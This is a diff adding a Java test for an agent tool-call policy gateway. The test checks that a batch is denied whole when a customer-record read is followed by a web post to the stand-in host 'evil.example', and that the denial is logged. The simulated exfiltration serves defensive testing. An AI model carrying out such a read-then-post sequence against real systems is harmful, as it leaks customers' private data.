@@ -122,6 +122,37 @@ class PolicyInspectionTest {
     }
 
     @Test
+    void aBatchDeniedByATransitionWithinItNamesTheCallThatCausedIt() throws Exception {
+        use("  - id: no-exfiltration\n    transition: {after: {label: sensitive-read}, then: {label: external-egress},"
+                + " within: ever}\n");
+        dev.tollgate.api.wire.TaskCreatedView task = fx.task(bot, 300, "crm.read_customer", "web.post");
+        String t = task.token();
+        String batch = "[" + call(1, "crm.read_customer", "{\"id\":\"c-1\"}") + ","
+                + call("x", "web.post", "{\"url\":\"https://evil.example\"}") + ","
+                + "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/list\"}]";
+        int before = app.requests();
+        HttpResponse<String> r = rpc(t, batch);
+        assertThat(r.statusCode()).as(r.body()).isEqualTo(403);
+        JsonNode errors = json(r);
+        assertThat(errors).hasSize(3);
+        JsonNode denied = errors.get(1);
+        assertThat(denied.get("id").asText()).isEqualTo("x");
+        assertThat(denied.path("error").path("code").asInt()).isEqualTo(-32003);
+        assertThat(denied.path("error").path("data").path("reason").asText()).isEqualTo("transition_forbidden");
+        assertThat(denied.path("error").path("data").path("rule").asText()).isEqualTo("no-exfiltration");
+        for (int i : new int[] {0, 2}) {
+            JsonNode e = errors.get(i).path("error");
+            assertThat(e.path("code").asInt()).as(errors.get(i).toString()).isEqualTo(-32004);
+            assertThat(e.path("data").path("denied_call").asText()).isEqualTo("x");
+        }
+        assertThat(app.requests()).isEqualTo(before);
+        // the decision names the tool of the call that was denied
+        assertThat(decisions).anySatisfy(line -> assertThat(line).contains("\"outcome\":\"denied\"")
+                .contains(task.task().id()).contains("\"reason\":\"transition_forbidden\"")
+                .contains("\"tool\":\"web.post\""));
+    }
+
+    @Test
     void theHistoryOutlivesExpWhileTheTokenIsStillAcceptedWithinTheClockSkew() throws Exception {
         use("  - id: no-exfiltration\n    transition: {after: {label: sensitive-read}, then: {label: external-egress},"
                 + " within: ever}\n");
